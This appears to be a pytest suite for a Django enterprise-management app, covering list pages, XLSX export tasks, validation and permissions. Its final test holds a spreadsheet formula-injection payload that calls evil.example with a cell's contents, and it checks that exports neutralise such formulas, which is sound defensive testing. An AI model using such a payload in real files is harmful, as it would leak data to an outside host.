"""The generic list, detail, edit and delete pages, exercised through the enterprise and grid pages."""
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from python_calamine import CalamineWorkbook

from openpark.core.models import ChangeRecord, TaskRun
from openpark.enterprises.models import Enterprise
from tests.factories import EnterpriseFactory, _uscc

LIST = "enterprises:enterprise_list"


@pytest.fixture
def editor(make_user):
    return make_user("economy")


@pytest.fixture
def many(db):
    return [EnterpriseFactory(name=f"企业{i:03d}") for i in range(120)]


def read_xlsx(content: bytes) -> list[list]:
    return CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()


def test_list_pages_and_page_size(editor, client_for, many):
    client = client_for(editor)
    page = client.get(reverse(LIST)).context["page"]
    assert page.paginator.count == 120 and len(page.object_list) == 50
    page = client.get(reverse(LIST), {"per_page": 20, "page": 6}).context["page"]
    assert page.number == 6 and len(page.object_list) == 20
    # A page size not offered falls back to the default; a page past the end shows the last one.
    page = client.get(reverse(LIST), {"per_page": 100000, "page": 99}).context["page"]
    assert len(page.object_list) == 20 and page.number == 3


def test_list_sorts_by_allowed_columns_only(editor, client_for, many):
    client = client_for(editor)
    names = [o.name for o, _ in client.get(reverse(LIST), {"sort": "-name"}).context["rows"]]
    assert names[:3] == ["企业119", "企业118", "企业117"]
    response = client.get(reverse(LIST), {"sort": "password"})
    assert response.status_code == 200 and response.context["sort"] == ""


def test_list_filters_by_search(editor, client_for, many):
    client = client_for(editor)
    rows = client.get(reverse(LIST), {"q": "企业07"}).context["rows"]
    assert sorted(o.name for o, _ in rows) == [f"企业07{i}" for i in range(10)]
    target = many[5]
    rows = client.get(reverse(LIST), {"q": target.uscc.lower()}).context["rows"]
    assert [o for o, _ in rows] == [target]


def test_htmx_request_gets_only_the_table(editor, client_for, many):
    response = client_for(editor).get(reverse(LIST), {"q": "企业00"}, HTTP_HX_REQUEST="true")
    html = response.content.decode()
    assert "<table" in html and "<html" not in html


def test_export_uses_filters_and_headers(editor, client_for, many):
    response = client_for(editor).get(reverse(LIST), {"q": "企业01", "sort": "name", "export": "xlsx"})
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in response["Content-Disposition"]
    rows = read_xlsx(response.content)
    # Enterprises export in their import layout, so that the file can go round.
    assert rows[0][:4] == ["统一社会信用代码", "企业名称", "成立日期", "经营状态"]
    assert [r[1] for r in rows[1:]] == [f"企业01{i}" for i in range(10)]


def test_export_is_scoped(enterprise_user, enterprises, client_for):
    response = client_for(enterprise_user).get(reverse(LIST), {"export": "xlsx"})
    rows = read_xlsx(response.content)
    assert [r[0] for r in rows[1:]] == [enterprises[0].uscc]


def test_large_export_runs_as_a_task_with_progress(editor, client_for, many, settings):
    settings.EXPORT_SYNC_LIMIT = 10
    client = client_for(editor)
    response = client.get(reverse(LIST), {"q": "企业0", "export": "xlsx"})
    run = TaskRun.objects.get()
    assert response.status_code == 302 and response["Location"] == run.get_absolute_url()
    assert (run.state, run.current, run.total, run.user) == ("success", 100, 100, editor)
    page = client.get(run.get_absolute_url())
    html = page.content.decode()
    assert "已完成" in html and "100%" in html and "已导出 100 行" in html
    assert "hx-trigger" not in html  # a finished task stops polling
    download = client.get(reverse("core:taskrun_download", args=[run.pk]))
    rows = read_xlsx(b"".join(download.streaming_content))
    assert len(rows) == 101 and rows[0][0] == "统一社会信用代码"
    # Another user cannot see the run.
    other = client_for(EnterpriseFactory and editor.__class__.objects.create_user("stranger", password="x-Passw0rd"))
    assert other.get(run.get_absolute_url()).status_code == 404


def test_running_task_polls_with_htmx(editor, client_for):
    run = TaskRun.objects.create(name="x", label="测试任务", user=editor, state="running", current=3, total=10)
    client = client_for(editor)
    html = client.get(run.get_absolute_url()).content.decode()
    assert 'hx-trigger="every 1s"' in html and "30%" in html
    # Times in Asia/Shanghai, as people read them, never a UTC ISO string.
    shown = timezone.localtime(run.created_at).strftime("%Y-%m-%d %H:%M")
    assert f"提交于 {shown}" in html and run.created_at.isoformat() not in html
    partial = client.get(run.get_absolute_url(), HTTP_HX_REQUEST="true").content.decode()
    assert "<html" not in partial and "（3 / 10）" in partial


def test_failed_task_says_so_in_chinese_and_logs_the_reason(editor, client_for, settings, monkeypatch, caplog):
    from openpark.core.generic import pages_registry

    settings.EXPORT_SYNC_LIMIT = 0
    EnterpriseFactory()
    pages = pages_registry["enterprises.enterprise"]

    def broken(*args, **kwargs):
        raise RuntimeError("磁盘已满")

    monkeypatch.setattr(pages, "export_bytes", broken)
    response = client_for(editor).get(reverse(LIST), {"export": "xlsx"}, follow=True)
    run = TaskRun.objects.get()
    assert run.state == "failure" and "内部错误" in run.message and str(run.pk) in run.message
    assert "失败" in response.content.decode()
    assert "磁盘已满" in caplog.text


def test_add_with_bad_input_shows_chinese_errors_and_writes_nothing(editor, client_for):
    client = client_for(editor)
    before = ChangeRecord.objects.count()
    response = client.post(reverse("enterprises:enterprise_add"), {"uscc": "91321282MA1234567X", "name": "", "status": "operating"})
    html = response.content.decode()
    assert response.status_code == 200
    assert "保存失败" in html and "校验位不正确" in html and "该字段是必填项" in html
    assert not Enterprise.all_objects.exists()
    assert ChangeRecord.objects.count() == before


def test_add_normalises_the_code(editor, client_for):
    code = _uscc(77)
    messy = " " + code[:9].lower() + " " + code[9:].translate(str.maketrans("0123456789", "０１２３４５６７８９"))
    response = client_for(editor).post(reverse("enterprises:enterprise_add"), {"uscc": messy, "name": "全角企业", "status": "operating"})
    assert response.status_code == 302
    assert Enterprise.objects.get().uscc == code


def test_duplicate_code_is_refused_even_if_deleted(editor, client_for):
    existing = EnterpriseFactory()
    existing.delete()
    response = client_for(editor).post(reverse("enterprises:enterprise_add"),
                                       {"uscc": existing.uscc.lower(), "name": "重复企业", "status": "operating"})
    assert response.status_code == 200
    assert "已存在" in response.content.decode()
    assert Enterprise.all_objects.count() == 1


def test_delete_needs_post_and_permission(make_user, client_for):
    enterprise = EnterpriseFactory()
    viewer = client_for(make_user("leader"))
    assert viewer.post(reverse("enterprises:enterprise_delete", args=[enterprise.pk])).status_code == 403
    assert Enterprise.objects.filter(pk=enterprise.pk).exists()


def test_detail_shows_actions_by_permission(make_user, client_for):
    enterprise = EnterpriseFactory()
    leader_html = client_for(make_user("leader")).get(enterprise.get_absolute_url()).content.decode()
    assert 'href="edit/"' not in leader_html and 'href="history/"' in leader_html
    editor_html = client_for(make_user("economy")).get(enterprise.get_absolute_url()).content.decode()
    assert 'href="edit/"' in editor_html and 'href="delete/"' in editor_html


def test_grid_boundary_is_validated(make_user, client_for):
    client = client_for(make_user("community"))
    response = client.post(reverse("core:grid_add"), {
        "code": "G1", "name": "一号网格",
        "boundary": '{"type": "Polygon", "coordinates": [[[31.9, 120.2], [31.9, 120.3], [32.0, 120.3], [31.9, 120.2]]]}',
    })
    assert response.status_code == 200 and "经纬度是否写反" in response.content.decode()
    response = client.post(reverse("core:grid_add"), {
        "code": "G1", "name": "一号网格",
        "boundary": '{"type": "Polygon", "coordinates": [[[120.2, 31.9], [120.3, 31.9], [120.3, 32.0], [120.2, 31.9]]]}',
    })
    assert response.status_code == 302


def _queries_for(client, url, params=None) -> int:
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as captured:
        assert client.get(url, params or {}).status_code == 200
    return len(captured)


def test_list_and_export_queries_do_not_grow_with_rows(editor, client_for, enterprise_user):
    client = client_for(editor)
    url = reverse(LIST)
    EnterpriseFactory.create_batch(3)
    few = _queries_for(client, url), _queries_for(client, url, {"export": "xlsx"})
    EnterpriseFactory.create_batch(60)
    many_rows = _queries_for(client, url), _queries_for(client, url, {"export": "xlsx"})
    assert many_rows == few


def test_scoped_list_queries_do_not_grow_with_bindings(enterprise_user, client_for):
    from tests.factories import bind_enterprise

    client = client_for(enterprise_user)
    url = reverse(LIST)
    baseline = _queries_for(client, url)
    for enterprise in EnterpriseFactory.create_batch(30):
        bind_enterprise(enterprise_user, enterprise)
    assert _queries_for(client, url) == baseline


def test_change_list_and_history_queries_do_not_grow_with_records(editor, client_for):
    client = client_for(editor)
    enterprise = EnterpriseFactory()
    urls = [reverse("core:changerecord_list"), enterprise.get_history_url()]
    few = [_queries_for(client, url) for url in urls]
    for i in range(20):
        enterprise.name = f"改名{i}"
        enterprise.save()
    EnterpriseFactory.create_batch(10)
    assert [_queries_for(client, url) for url in urls] == few


def test_exported_text_never_becomes_a_formula_or_link(editor, make_user, client_for):
    import zipfile

    from openpark.enterprises.models import Contact

    payload = '=HYPERLINK("http://evil.example/?d="&A2,"查看")'
    Contact.objects.create(enterprise=EnterpriseFactory(), name=payload, title="=1+1")
    for url in (reverse("enterprises:contact_list") + "?export=xlsx", reverse("core:changerecord_list") + "?export=xlsx"):
        content = client_for(make_user("leader")).get(url).content
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any("<f>" in sheet for sheet in sheets), url
        assert any(payload in row for row in map(str, read_xlsx(content))), url
